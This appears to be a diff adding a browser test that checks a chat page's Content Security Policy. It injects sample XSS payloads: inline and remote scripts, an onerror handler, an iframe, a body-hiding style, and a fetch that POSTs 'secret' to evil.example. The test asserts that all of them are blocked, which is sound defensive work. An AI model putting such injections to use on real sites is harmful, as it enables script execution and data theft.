@@ -112,6 +112,34 @@ def test_W04_hostile_reasoning_tools_and_citations_stay_text(chat: ChatPage) -> 
     assert chat.page.evaluate("window.ran") is None
 
 
+INTRUDERS = r"""() => {
+  window.ran = [];
+  const add = (tag, properties) => document.body.append(Object.assign(document.createElement(tag), properties));
+  add("script", { textContent: "ran.push('inline')" });
+  add("script", { src: "https://evil.example/x.js" });
+  add("img", { src: "https://evil.example/p.png" });
+  add("iframe", { src: "https://evil.example/" });
+  add("div", { innerHTML: "<img src='data:,x' onerror=\"ran.push('handler')\">" });
+  add("style", { textContent: "body { display: none }" });
+  const sent = fetch("https://evil.example/", { method: "POST", body: "secret" });
+  const wait = () => new Promise((done) => setTimeout(() => done(ran), 200));
+  return sent.then(() => ran.push("fetch"), () => 0).then(wait);
+}"""
+
+
+def test_W05_what_got_through_all_the_same_would_not_run_load_or_send(chat: ChatPage) -> None:
+    """The policy is the last line of defence, so it is tried from within the page."""
+    chat.expected = lambda text: (
+        "Content Security Policy" in text or "script-src" in text or "data:,x" in text
+    )
+    refused: dict[str, str | None] = {}
+    chat.page.on("requestfailed", lambda request: refused.update({request.url: request.failure}))
+    assert chat.page.evaluate(INTRUDERS) == []
+    assert {url: refused.get(url) for url in chat.strangers} == dict.fromkeys(chat.strangers, "csp")
+    chat.strangers.clear()  # none of them was sent
+    assert chat.page.evaluate("getComputedStyle(document.body).display") != "none"
+
+
 def test_W04_an_image_in_the_text_is_shown_only_from_the_text(chat: ChatPage) -> None:
     png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
     chat.emulator.reply(f"![dot](data:image/png;base64,{png}) ![far](https://evil.example/p.png)")
